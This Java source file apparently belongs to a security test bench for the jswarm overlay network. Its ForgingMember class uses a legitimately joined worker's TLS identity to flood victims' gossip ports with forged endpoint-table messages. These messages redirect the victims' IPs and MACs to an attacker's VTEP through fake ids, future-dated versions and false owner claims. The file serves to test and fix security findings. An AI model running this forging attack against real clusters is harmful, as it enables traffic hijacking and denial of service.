package io.jswarm.e2e.bench;

import com.google.protobuf.ByteString;
import io.jswarm.encryption.NodeIdentity;
import io.jswarm.encryption.tls.IdentityKeyManager;
import io.jswarm.encryption.tls.PeerTrust;
import io.jswarm.gossip.wire.WireCodec;
import io.jswarm.proto.table.Endpoint;
import io.jswarm.proto.table.TableEntry;
import io.jswarm.proto.table.TableMessage;
import io.jswarm.proto.table.TablePage;
import io.jswarm.proto.table.Version;
import io.jswarm.vxlan.Netns;
import io.jswarm.vxlan.netlink.NetnsCalls;
import java.io.DataOutputStream;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import javax.net.ssl.KeyManager;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;

/**
 * The {@code abuse} bench's bad member: a joined worker's own key and certificate, used from another host over
 * TLS to the victims' gossip ports, flooding table messages that claim the victims' endpoints with the
 * attacker's VTEP, three ways: (a) direct events for new endpoint ids that sort before the real ones, owned by
 * the attacker, with a victim's IP and MAC (finding 1); (b) anti-entropy pages relaying the victims' own entries
 * with a version an hour in the future (finding 2, without the overflow); (c) direct events for the victims'
 * own ids, claiming the victim as owner. One thread per victim; a closed connection is reopened.
 */
final class ForgingMember implements AutoCloseable {
    /** One endpoint the attacker tries to take over. */
    record Victim(String networkId, String endpointId, byte[] ip, String mac, String ownerNode) {
    }

    private final Netns ns;
    private final NodeIdentity identity;
    private final byte[] attackerVtep;
    private final List<InetSocketAddress> targets;
    private final List<Victim> victims;
    private final int messagesPerSecond;
    private final AtomicLong sent = new AtomicLong();
    private final AtomicLong reconnects = new AtomicLong();
    private final List<Thread> threads = new ArrayList<>();
    private volatile boolean stop;

    ForgingMember(Path nsFile, NodeIdentity identity, byte[] attackerVtep, List<InetSocketAddress> targets,
                  List<Victim> victims, int messagesPerSecond) {
        this.ns = new Netns.AtPath(nsFile);
        this.identity = identity;
        this.attackerVtep = attackerVtep.clone();
        this.targets = List.copyOf(targets);
        this.victims = List.copyOf(victims);
        this.messagesPerSecond = messagesPerSecond;
    }

    void start() {
        for (InetSocketAddress t : targets) {
            threads.add(Thread.ofPlatform().name("abuse-forger").daemon().start(() -> run(t)));
        }
    }

    long sent() {
        return sent.get();
    }

    long reconnects() {
        return reconnects.get();
    }

    private void run(InetSocketAddress target) {
        WireCodec codec = new WireCodec();
        long gapNanos = 1_000_000_000L / messagesPerSecond;
        while (!stop) {
            try (SSLSocket s = connect(target)) {
                DataOutputStream out = new DataOutputStream(s.getOutputStream());
                long next = System.nanoTime();
                int round = 0;
                while (!stop) {
                    for (TableMessage m : forged(round++)) {
                        byte[] frame = codec.encode(WireCodec.tableMessage(m));
                        out.writeInt(frame.length);
                        out.write(frame);
                        sent.incrementAndGet();
                    }
                    out.flush();
                    next += gapNanos * 3;
                    long sleep = (next - System.nanoTime()) / 1_000_000;
                    if (sleep > 0) {
                        Thread.sleep(sleep);
                    }
                }
            } catch (IOException e) {
                reconnects.incrementAndGet();
                pause(200);
            } catch (InterruptedException e) {
                return;
            }
        }
    }

    private List<TableMessage> forged(int round) {
        List<TableMessage> out = new ArrayList<>();
        long future = System.currentTimeMillis() + 3_600_000L + round;
        for (int i = 0; i < victims.size(); i++) {
            Victim v = victims.get(i);
            Endpoint ours = endpoint(v, identity.nodeId());
            Endpoint claimed = endpoint(v, v.ownerNode());
            out.add(TableMessage.newBuilder().setNetworkId(v.networkId()).setEvent(TableEntry.newBuilder()
                    .setEndpointId(String.format("%025d", i)).setVersion(version(future, identity.nodeId()))
                    .setEndpoint(ours)).build());
            out.add(TableMessage.newBuilder().setNetworkId(v.networkId()).setPage(TablePage.newBuilder()
                    .setNetworkId(v.networkId()).setIndex(0).setLast(true).addEntries(TableEntry.newBuilder()
                            .setEndpointId(v.endpointId()).setVersion(version(future, v.ownerNode())).setEndpoint(claimed)))
                    .build());
            out.add(TableMessage.newBuilder().setNetworkId(v.networkId()).setEvent(TableEntry.newBuilder()
                    .setEndpointId(v.endpointId()).setVersion(version(future, v.ownerNode())).setEndpoint(claimed)).build());
        }
        return out;
    }

    private Endpoint endpoint(Victim v, String owner) {
        return Endpoint.newBuilder().setName("forged").setIp(ByteString.copyFrom(v.ip())).setMac(v.mac())
                .setVtep(ByteString.copyFrom(attackerVtep)).setOwnerNode(owner).build();
    }

    private static Version version(long lamport, String owner) {
        return Version.newBuilder().setLamport(lamport).setOwner(owner).build();
    }

    private SSLSocket connect(InetSocketAddress target) throws IOException {
        Socket plain = NetnsCalls.inside(ns, () -> {
            Socket p = new Socket();
            p.connect(target, 3000);
            return p;
        });
        try {
            SSLContext ctx = SSLContext.getInstance("TLSv1.3");
            ctx.init(new KeyManager[] {new IdentityKeyManager(identity)},
                    new TrustManager[] {PeerTrust.pkix(identity.root())}, null);
            SSLSocket s = (SSLSocket) ctx.getSocketFactory().createSocket(plain, target.getHostString(), target.getPort(), true);
            s.setEnabledProtocols(new String[] {"TLSv1.3"});
            s.setSoTimeout(10_000);
            s.startHandshake();
            return s;
        } catch (java.security.GeneralSecurityException e) {
            plain.close();
            throw new IOException(e);
        } catch (IOException e) {
            plain.close();
            throw e;
        }
    }

    private static void pause(long ms) {
        try {
            Thread.sleep(ms);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    @Override
    public void close() throws InterruptedException {
        stop = true;
        for (Thread t : threads) {
            t.interrupt();
            t.join(5000);
        }
    }
}
